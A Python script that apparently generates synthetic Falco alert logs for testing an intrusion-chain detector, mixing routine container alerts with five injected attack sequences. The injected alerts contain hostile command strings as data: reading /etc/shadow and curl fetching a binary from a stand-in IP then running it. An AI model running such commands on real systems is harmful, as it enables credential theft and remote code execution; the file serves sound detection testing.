#!/usr/bin/env python3
"""Generates a day of a cluster's Falco alerts (Falco's JSON output, one alert per line, as
falcosidekick receives them): 400 pods on 40 nodes, each pod with the one Falco rule its
workload trips again and again (package managers at start-up, shells of health checks, network
tools, writes below /etc), never three different rules on one pod within 10 minutes, plus
host-level alerts; and INTRUSIONS injected intrusions (a terminal shell, a sensitive file read,
a remote copy tool and a binary dropped and run, on one pod within five minutes) that
falco_intrusion_chain must find. Prints the alerts on stdout and the alerts expected on stderr
as JSON.

usage: gen_falco.py ALERTS [SEED]
"""
import json
import random
import sys

n = int(sys.argv[1])
rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 5)
INTRUSIONS = 5
NOISY = [
    ("Launch Package Management Process in Container", "Error", "apt-get", "apt-get install -y curl", ["T1505", "container", "mitre_persistence", "process"]),
    ("Terminal shell in container", "Notice", "sh", "sh -c /healthz.sh", ["T1059", "container", "mitre_execution", "shell"]),
    ("Launch Suspicious Network Tool in Container", "Notice", "nc", "nc -z db 5432", ["T1046", "container", "mitre_discovery", "network"]),
    ("Write below etc", "Error", "envsubst", "envsubst < /tmpl/app.conf > /etc/app.conf", ["T1098", "filesystem", "mitre_persistence"]),
    ("Contact K8S API Server From Container", "Notice", "kubectl", "kubectl get pods", ["T1565", "container", "k8s", "mitre_discovery", "network"]),
]
CHAIN = [
    ("Terminal shell in container", "Notice", "bash", "bash", ["T1059", "shell"]),
    ("Read sensitive file untrusted", "Warning", "cat", "cat /etc/shadow", ["T1555", "filesystem"]),
    ("Launch Remote File Copy Tools in Container", "Notice", "curl", "curl -sSfo /tmp/x http://198.51.100.7/x", ["T1105", "network"]),
    ("Drop and execute new binary in container", "Critical", "x", "/tmp/x", ["T1610", "process"]),
]
pods = [("ns-%d" % (i % 25), "app-%d-7d9f8b6c5d-%05d" % (i, i), "node-%d" % (i % 40), NOISY[i % len(NOISY)]) for i in range(400)]
inject_at = {int(n * (k + 1) / (INTRUSIONS + 1)): k for k in range(INTRUSIONS)}


def alert(sec, nanos, rule, prio, proc, cmd, tags, ns, pod, host):
    t = "2026-11-30T%02d:%02d:%02d.%09dZ" % (sec // 3600, sec // 60 % 60, sec % 60, nanos)
    fields = {
        "container.id": "%012x" % (hash(pod) & 0xFFFFFFFFFFFF) if pod else "host",
        "container.image.repository": "registry.example.com/%s/app" % ns if pod else None,
        "container.image.tag": "1.4.2" if pod else None,
        "container.name": "app" if pod else "host",
        "evt.time": sec * 1_000_000_000 + nanos,
        "evt.type": "execve",
        "k8s.ns.name": ns,
        "k8s.pod.name": pod,
        "proc.cmdline": cmd,
        "proc.exepath": "/usr/bin/" + proc,
        "proc.name": proc,
        "proc.pname": "runc" if pod else "bash",
        "proc.tty": 0,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
    }
    flat = " ".join("%s=%s" % (k.replace(".", "_"), v) for k, v in fields.items())
    return json.dumps({
        "output": "%s: %s %s | %s" % (t[11:29], prio, rule, flat),
        "priority": prio,
        "rule": rule,
        "time": t,
        "output_fields": fields,
        "source": "syscall",
        "tags": tags + ["maturity_stable"],
        "hostname": host,
    }, separators=(",", ":"))


out = sys.stdout
for i in range(n):
    sec = i * 86000 // n
    if i in inject_at:
        k = inject_at[i]
        ns, pod, node = "victim-%d" % k, "web-%d-5c6d7e8f9-zzzzz" % k, "node-%d" % k
        for j, (rule, prio, proc, cmd, tags) in enumerate(CHAIN):
            out.write(alert(sec + j * 60, 0, rule, prio, proc, cmd, tags, ns, pod, node) + "\n")
    if rng.random() < 0.05:
        out.write(alert(sec, rng.randrange(10**9), "Linux Kernel Module Injection Detected", "Warning", "modprobe", "modprobe overlay",
                        ["T1547.006", "host"], None, None, "node-%d" % rng.randrange(40)) + "\n")
        continue
    ns, pod, node, (rule, prio, proc, cmd, tags) = pods[rng.randrange(len(pods))]
    out.write(alert(sec, rng.randrange(10**9), rule, prio, proc, cmd, tags, ns, pod, node) + "\n")
json.dump({"falco_intrusion_chain": INTRUSIONS}, sys.stderr)
